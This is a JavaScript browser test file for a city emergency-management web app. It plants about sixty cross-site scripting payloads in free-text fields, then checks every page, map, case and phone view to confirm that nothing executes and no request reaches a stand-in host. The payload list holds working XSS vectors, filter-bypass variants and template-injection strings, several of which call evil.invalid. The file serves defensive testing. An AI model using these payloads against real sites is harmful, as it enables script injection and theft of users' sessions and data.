// Script in text, in a real browser: sixty ways to make a page run what somebody typed, in the free text of elements,
// incidents, tasks and cases, looked at in every list, on every kind of page, on the map, on the phone, and in both
// languages. Nothing runs, nothing is asked of another host, and the words stand there as they were typed. Needs a running
// demo city: ANLAN_URL, ANLAN_DEMO_PASSWORD.
import { base, check, open, password, passwordField, person, shots, signIn, step } from './browser.mjs';

/** Each calls ran() or asks evil.invalid for something, if it is anything but text. */
const payloads = [
  '<script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '--><script>ran()</script>',
  ']]><script>ran()</script>',
  '<script src=//evil.invalid/a.js></script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()">',
  "<img src=x onerror='ran()'>",
  '<img src=//evil.invalid/i.png>',
  '<img/src=x/onerror=ran()>',
  '<img src=x onerror=ran&#40;&#41;>',
  '<img src="x` `<script>ran()</script>"` `>',
  '<image href=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text x=20 y=20>点</text></a></svg>',
  '<svg/onload=ran()//',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src=//evil.invalid></iframe>',
  '<object data="javascript:ran()"></object>',
  '<object data=//evil.invalid/o></object>',
  '<embed src="javascript:ran()">',
  '<body onload=ran()>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<marquee onstart=ran()>',
  '<video><source onerror=ran()>',
  '<video src=x onerror=ran()>',
  '<audio src=x onerror=ran()>',
  '<a href="javascript:ran()">点我</a>',
  '<a href="JaVaScRiPt:ran()">点我</a>',
  '<a href="&#106;avascript:ran()">点我</a>',
  '<a href="data:text/html,<script>ran()</script>">点我</a>',
  '<form action="javascript:ran()"><button>好</button></form>',
  '<button formaction="javascript:ran()">好</button>',
  '<link rel=stylesheet href=//evil.invalid/a.css>',
  '<link rel=prefetch href=//evil.invalid/p>',
  '<style>@import "//evil.invalid/b.css";</style>',
  '<style>*{background:url(//evil.invalid/c)}</style>',
  '<div style="background:url(//evil.invalid/d)">底</div>',
  '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid">',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '" onmouseover="ran()" x="',
  "' onfocus='ran()' autofocus='",
  'javascript:ran()',
  '${ran()}{{ran()}}<%= ran() %>',
  "{{constructor.constructor('ran()')()}}",
  '![x](javascript:ran()) [y](data:text/html,<script>ran()</script>)',
  '<img src=x onerror=\\u0072an()>',
  '\u003cimg src=x onerror=ran()\u003e',
];

const here = { lon: 123.35, lat: 41.79, area: '210106001' };

async function writer(user) {
  const answer = await fetch(`${base}/api/session`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ user, password }) });
  const { token } = await answer.json();
  let n = 0;
  return async (path, body) => {
    const a = await fetch(`${base}/api${path}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', 'Idempotency-Key': `hostile-${user}-${Date.now()}-${n++}` },
      body: JSON.stringify(body),
    });
    if (!a.ok) throw new Error(`${user}: POST ${path}: ${a.status} ${await a.text()}`);
    return a.json();
  };
}

/** What a page did that it should not have. */
const ran = [];
async function hostile(browser, name, viewport) {
  const page = await open(browser, name, viewport);
  await page.exposeFunction('ran', () => ran.push(`script ran at ${page.url()}`));
  page.on('dialog', (d) => {
    ran.push(`a dialog at ${page.url()}`);
    return d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes('evil.invalid')) ran.push(`${page.url()} asked for ${r.url()}`);
  });
  return page;
}

/** Opens a page and moves over what stands there; text that became an element is found by its look. */
async function visit(page, path) {
  await page.goto(base + path);
  await page.locator('main, #root > *, .page').first().waitFor();
  await page.waitForTimeout(800); // the stream of events stays open, so the network is never idle
  if ((await page.locator(passwordField).count()) > 0) throw new Error(`${path} asks to sign in: nothing of it was seen`);
  const bred = await page.evaluate(() => {
    const own = [...document.querySelectorAll('script, iframe, object, embed, base, marquee, [onerror], [onload], [onfocus], [onmouseover], [onbegin], [ontoggle]')];
    return own.filter((e) => /ran\(|evil/.test(e.outerHTML) || ['MARQUEE', 'OBJECT', 'EMBED', 'BASE'].includes(e.tagName)).map((e) => e.outerHTML.slice(0, 120));
  });
  if (bred.length > 0) ran.push(`${path} has ${bred.join(' ')}`);
  for (const link of await page.locator('a[href^="javascript:" i], a[href^="data:" i]').all()) ran.push(`${path} links to ${await link.getAttribute('href')}`);
}

async function main(browser) {
  const duty = await writer('duty-210106');
  const officer = await writer('officer-210106');
  const made = { elements: [], incidents: [], tasks: [], cases: [] };
  await step(`${payloads.length} payloads in every free text`, async () => {
    for (const [i, p] of payloads.entries()) {
      const text = `${p} ${i}`;
      const e = await duty('/register/elements', {
        kind: 'high-rise', name: text, address: text, ...here, lon: here.lon + i / 5000,
        attrs: { floors: 30, height: 100, use: 'office', built: 2010, management: text, sprinklers: true },
      });
      made.elements.push(e.id);
      const incident = await duty('/command/incidents', { title: text, type: 'accident', address: text, summary: text, reporter: text.slice(0, 50), ...here });
      made.incidents.push(incident.id);
      if (i % 6 === 0) made.tasks.push((await duty(`/command/incidents/${incident.id}/tasks`, { title: text, detail: text, assignee: 'field' })).id);
      if (i % 4 === 0) {
        const c = await officer('/procedures/enforce.penalty/cases', {
          source: 'inspection', area: here.area, sort: 'unit', name: text, code: '91210106MA0DEMO001', address: text, chief: text.slice(0, 50), phone: '02488880001',
          conduct: text, item: 'wsl-97-4', began: '2025-11-03', ended: '2026-02-20', found: '2026-02-25', facts: payloads.slice(i, i + 12).join('\n'),
        });
        made.cases.push(c.id);
      }
    }
  });

  const page = await hostile(browser, 'duty', { width: 1366, height: 768 });
  await signIn(page, '/monitor/alarms', 'duty-210106');
  await page.locator('main').waitFor();
  const { pages } = await (await person('duty-210106'))('/session');
  for (const language of ['中文', 'English']) {
    await step(`every page of the menu, ${language}`, async () => {
      await page.evaluate((l) => localStorage.setItem('anlan.language', l === 'English' ? 'en' : 'zh'), language);
      for (const p of pages) await visit(page, p.path);
    });
  }
  await step('pages of single things', async () => {
    for (const id of made.incidents.filter((_, i) => i % 5 === 0)) await visit(page, `/command/incidents/${id}`);
    for (const id of made.elements.filter((_, i) => i % 5 === 0)) await visit(page, `/grid/elements/${id}`);
    await page.screenshot({ path: `${shots}/h1-element.png` });
  });
  await step('the search box of the map shows what was typed', async () => {
    await visit(page, '/map');
    for (const word of ['onerror', 'javascript', 'script']) {
      await page.locator('input[type="search"], .search-box input, [role="combobox"]').first().fill(word);
      await page.getByText(word).first().waitFor();
    }
    await page.screenshot({ path: `${shots}/h2-map.png` });
  });
  await step('cases, their writs and their print', async () => {
    const lawyer = await hostile(browser, 'officer', { width: 1366, height: 768 });
    await signIn(lawyer, '/desk/cases', 'officer-210106');
    await lawyer.locator('main').waitFor();
    for (const p of (await (await person('officer-210106'))('/session')).pages) await visit(lawyer, p.path);
    for (const id of made.cases) await visit(lawyer, `/desk/cases/${id}`);
    await lawyer.getByText('onerror=').first().waitFor();
    await lawyer.screenshot({ path: `${shots}/h3-case.png`, fullPage: true });
  });
  await step('the phone', async () => {
    const phone = await hostile(browser, 'phone', { width: 390, height: 844 });
    await signIn(phone, '/m', 'field');
    await phone.getByText('ran()').first().waitFor();
    for (const id of made.tasks) await visit(phone, `/m/task/${id}`);
    await phone.screenshot({ path: `${shots}/h4-phone.png` });
  });
  await step('a style element that came with markup is not applied, those of the page are', async () => {
    const context = await browser.newContext(); // its console says what is refused, and is no fault
    const bare = await context.newPage();
    await bare.goto(base + '/login');
    await bare.locator('input[autocomplete="username"]').waitFor();
    const [hurt, ours, refused] = await bare.evaluate(async () => {
      const said = new Promise((tell) => document.addEventListener('securitypolicyviolation', (e) => tell(e.effectiveDirective), { once: true }));
      const box = document.createElement('div');
      box.innerHTML = '<style>body { --hurt: 1 }</style>';
      document.body.append(box);
      const directive = await said;
      return [getComputedStyle(document.body).getPropertyValue('--hurt'), [...document.querySelectorAll('head style')].filter((s) => (s.sheet?.cssRules.length ?? 0) > 0).length, directive];
    });
    await context.close();
    if (hurt !== '' || refused !== 'style-src-elem') throw new Error(`the style was applied (${hurt}), or something else refused: ${refused}`);
    if (ours === 0) throw new Error('no style element of the page has rules');
  });
  await step('nothing ran, nothing was asked of another host', () => {
    if (ran.length > 0) throw new Error([...new Set(ran)].slice(0, 20).join('\n'));
  });
}

await check(main);
